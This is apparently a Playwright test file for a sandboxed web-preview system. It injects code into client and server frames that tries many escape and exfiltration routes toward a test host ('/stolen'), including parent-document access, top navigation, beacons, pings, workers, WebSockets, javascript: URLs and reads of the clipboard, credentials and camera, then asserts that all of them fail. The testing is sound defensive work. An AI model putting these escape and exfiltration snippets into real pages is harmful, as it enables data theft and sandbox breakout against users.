/** Ways out of a frame: none reaches another host, another window, another document or the hardware. */
import { expect, test } from '@playwright/test';
import { timeout } from '../../../evidence/lab/pace';
import type { Files } from '../../shared/protocol';
import { outlast } from '../parity/thread';
import { layout, openAttackedPage } from './attacked-page';
import { type Site, serveSite } from './site';

let site: Site;
test.beforeAll(async () => {
  site = await serveSite();
});
test.afterAll(() => site.close());

/** Code in an effect: `to` is an address that must not be reached. */
const inClient = (attempts: Record<string, string>, to: string): Files => ({
  '/app/layout.tsx': layout,
  '/app/page.tsx': "import { Try } from './try';\nexport default function Page() { return <Try />; }",
  '/app/try.tsx': `'use client';\nimport { useEffect } from 'react';\nexport function Try() { useEffect(() => { ${trying(attempts, to)} }, []); return <p>Alive</p>; }`,
});
const inServer = (attempts: Record<string, string>, to: string): Files => ({
  '/app/layout.tsx': layout,
  '/app/page.tsx': `export default function Page() { ${trying(attempts, to)} return <p>Alive</p>; }`,
});

const trying = (attempts: Record<string, string>, to: string) => `(async () => {
  const to = ${JSON.stringify(to)};
  const settle = (start) => Promise.race([new Promise(start), new Promise((_, no) => setTimeout(no, ${timeout(1_500)}, 'no answer'))]);
  for (const [name, attempt] of Object.entries({ ${Object.entries(attempts)
    .map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`)
    .join(',\n')} })) {
    try { console.info(name + ' | won | ' + String(await attempt())); } catch (error) { console.info(name + ' | refused | ' + error); }
  }
  console.info('all tried');
})();`;

const element = (tag: string, fields: string, then = 'ok()') =>
  `await settle((ok, no) => { const e = document.createElement('${tag}'); Object.assign(e, ${fields}); e.onload = ok; e.onerror = no; document.body.append(e); ${then === 'ok()' ? '' : then} });`;

/** Each throws, or rejects, or is never answered. */
const refusedInClient: Record<string, string> = {
  'the parent document': 'return parent.document.title;',
  'the top document': 'return top.document.title;',
  'the frame of the server half': 'return parent.frames[0].document.title;',
  'another sandbox': 'return top.frames[1].document.title;',
  'the frame element': 'if (!frameElement) throw new Error("none");',
  'an opener': 'if (!opener) throw new Error("none");',
  'the document of the opened parent': 'return parent.parent.heldSandboxes.length;',
  'document.domain': "document.domain = 'localhost';",
  'open()': "if (!open(to)) throw new Error('none');",
  'open() in top': "if (!open(to, '_top')) throw new Error('none');",
  'the address of top': 'top.location = to;',
  'replacing the address of top': 'top.location.replace(to);',
  'a script address for the parent': "parent.location = 'javascript:window.top.siteErrors.push(1)';",
  'history of top': 'top.history.back();',
  'an imported address':
    'await settle((ok, no) => new Function("to", "return import(to)")(to).then(ok, no));',
  'a data module that imports':
    'await settle((ok, no) => new Function("a", "return import(a)")("data:text/javascript,import " + JSON.stringify(to)).then(ok, no));',
  'a WebSocket':
    "await settle((ok, no) => { const w = new WebSocket(to.replace('http', 'ws')); w.onopen = ok; w.onerror = no; });",
  'a WebTransport': "await new WebTransport(to.replace('http', 'https')).ready;",
  'an image': element('img', '{ src: to }'),
  'a video': element('video', '{ src: to, onloadeddata: ok }', 'e.load();'),
  'an object': element('object', '{ data: to }', 'setTimeout(no, 300);'),
  'a font': "await new FontFace('a', 'url(' + to + ')').load();",
  'a stylesheet': element('link', "{ rel: 'stylesheet', href: to }"),
  'a manifest and an icon': element('link', "{ rel: 'icon', href: to }"),
  'a SharedWorker': "new SharedWorker(URL.createObjectURL(new Blob([''])));",
  'a ServiceWorker': "await navigator.serviceWorker.register('/sandbox/host.js');",
  'the clipboard': 'await settle((ok, no) => navigator.clipboard.readText().then(ok, no));',
  'writing to the clipboard': "await settle((ok, no) => navigator.clipboard.writeText('a').then(ok, no));",
  notifications: "if ((await Notification.requestPermission()) !== 'granted') throw new Error('denied');",
  fullscreen: 'await document.body.requestFullscreen();',
  'the pointer lock':
    'await settle((ok, no) => { document.onpointerlockerror = no; document.onpointerlockchange = ok; document.body.requestPointerLock(); });',
  'the file picker': 'await showOpenFilePicker();',
  'the camera': 'await navigator.mediaDevices.getUserMedia({ video: true });',
  'the place': 'await settle((ok, no) => navigator.geolocation.getCurrentPosition(ok, no));',
  credentials:
    'await settle((ok, no) => navigator.credentials.get({ password: true }).then((c) => c ? ok() : no("none"), no));',
  databases:
    "await settle((ok, no) => { const r = indexedDB.open('a'); r.onsuccess = ok; r.onerror = no; });",
  'the file system': 'await navigator.storage.getDirectory();',
  'a lock of the site': "await navigator.locks.request('a', () => 1);",
};

/** Each may run without an error; nothing may come of it. */
const silentInClient: Record<string, string> = {
  'a beacon': "navigator.sendBeacon(to, 'x');",
  'a ping of a link':
    "const a = document.createElement('a'); a.href = '#'; a.ping = to; document.body.append(a); a.click();",
  'styles by address':
    "document.body.style.backgroundImage = 'url(' + to + ')'; const s = document.createElement('style'); s.textContent = '@import url(' + to + '); @font-face { font-family: x; src: url(' + to + ') } p { font-family: x }'; document.head.append(s);",
  'a base': "const b = document.createElement('base'); b.href = to; document.head.append(b);",
  prefetching:
    "for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender']) { const l = document.createElement('link'); Object.assign(l, { rel, href: to, as: 'script' }); document.head.append(l); }",
  'a speculation':
    "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] }); document.head.append(s);",
  'a nested frame':
    "for (const fields of [{ src: to }, { srcdoc: '<img src=\"' + to + '\"><script>fetch(\"' + to + '\")</scr' + 'ipt>' }, { src: 'data:text/html,<img src=' + to + '>' }]) { const f = document.createElement('iframe'); Object.assign(f, fields); document.body.append(f); }",
  'the built-ins of a nested frame':
    "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow?.fetch?.(to)?.catch(() => 0); ",
  'a worker':
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + to + '\"); importScripts(\"' + to + '\")'])));",
  'the name of the window': "window.name = 'stolen'; document.title = 'stolen';",
  'a channel of the site': "new BroadcastChannel('a').postMessage('stolen');",
  'a script link':
    "const a = document.createElement('a'); a.href = 'javascript:top.siteErrors.push(1)'; a.target = '_top'; document.body.append(a); a.click();",
  'a form to top':
    "const f = document.createElement('form'); f.target = '_top'; f.action = to; document.body.append(f); HTMLFormElement.prototype.submit.call(f);",
  'a link to top':
    "const a = document.createElement('a'); a.href = to; a.target = '_top'; document.body.append(a); a.click();",
  'a download':
    "const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x'; document.body.append(a); a.click();",
  'a meta refresh':
    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + to; document.head.append(m);",
  'its own address': 'setTimeout(() => { location.href = to; });',
};

const refusedInServer: Record<string, string> = {
  'the built-in fetch':
    "await Object.getPrototypeOf(async () => 0).constructor('to', 'return fetch(to)')(to);",
  scripts: 'importScripts(to);',
  'an imported address': 'await new Function("to", "return import(to)")(to);',
  XMLHttpRequest:
    "await settle((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = no; x.open('GET', to); x.send(); });",
  'a WebSocket': refusedInClient['a WebSocket'] ?? '',
  'a WebTransport': refusedInClient['a WebTransport'] ?? '',
  'an EventSource':
    'await settle((ok, no) => { const e = new EventSource(to); e.onopen = ok; e.onerror = no; });',
  'a font': refusedInClient['a font'] ?? '',
  databases: refusedInClient.databases ?? '',
  caches: "await caches.open('a');",
  'the file system': refusedInClient['the file system'] ?? '',
  'a document': 'return document.title;',
  'a nested worker that fetches':
    "await settle((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(\"' + to + '\").then(() => postMessage(1), () => postMessage(0))']))); w.onmessage = ({ data }) => data ? ok() : no('refused'); w.onerror = no; });",
};

for (const [side, attempts, app, silent] of [
  ['client', refusedInClient, inClient, silentInClient],
  ['server', refusedInServer, inServer, {}],
] as const) {
  test(`no way out of the ${side} half leads anywhere`, async ({ page }) => {
    const { attacked, survives } = await openAttackedPage(page, site);
    const downloads: string[] = [];
    page.on('download', (download) => downloads.push(download.url()));
    await attacked.run(app({ ...attempts, ...silent }, `${site.elsewhere}/stolen`));
    await expect.poll(() => attacked.lines(), { timeout: timeout(30_000) }).toContain('all tried');
    const won = (await attacked.lines()).filter((line) => line.includes(' | won | '));
    const names = won.map((line) => line.split(' | ')[0] ?? '');
    expect(names.filter((name) => !(name in silent))).toEqual([]);
    await outlast(page, site.elsewhere); // what was started and told nothing
    expect(downloads).toEqual([]);
    expect(await page.title()).toBe('Site');
    await survives();
  });
}
